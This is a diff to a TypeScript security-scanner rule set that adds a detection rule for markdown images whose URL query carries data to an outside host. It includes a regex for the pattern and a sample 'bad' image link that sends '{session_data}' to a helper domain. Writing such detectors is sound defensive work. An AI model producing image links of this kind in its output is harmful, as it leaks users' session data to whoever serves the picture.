@@ -1,6 +1,8 @@
 import type { Rule } from '../../rule.ts'
 import { beside, each } from '../meant.ts'
 
+const picture = /!\[[^\]]{0,120}\]\([^)\s]{0,200}\?[^)\s]{0,120}=(?:\$\{|\{|<|%s)/
+
 /** Pipelines and networks that others can speak into. */
 export const workflowRules: readonly Rule[] = [
   {
@@ -38,6 +40,23 @@ export const workflowRules: readonly Rule[] = [
       ['paste-host'],
       ({ detail }) => /\/[a-z0-9]{4,}/i.test(detail) && !/^gist|raw\/\?|api\./i.test(detail),
     ),
+  },
+  {
+    id: 'NET-004',
+    version: 1,
+    tier: 'human',
+    severity: 'high',
+    confidence: 0.7,
+    category: 'exfiltration',
+    title: 'A picture whose address takes data along',
+    message:
+      'Whoever serves the picture learns what was put into its address as soon as it is shown.',
+    fixHint: 'Put the picture into the bundle.',
+    example: {
+      bad: '![status](https://img.some-helper.net/p.png?d={session_data})',
+      good: '![status](https://img.some-helper.net/p.png?style=flat)',
+    },
+    find: each(['query-out'], ({ excerpt, place }) => picture.test(excerpt) && place !== 'code'),
   },
   {
     id: 'NET-002',
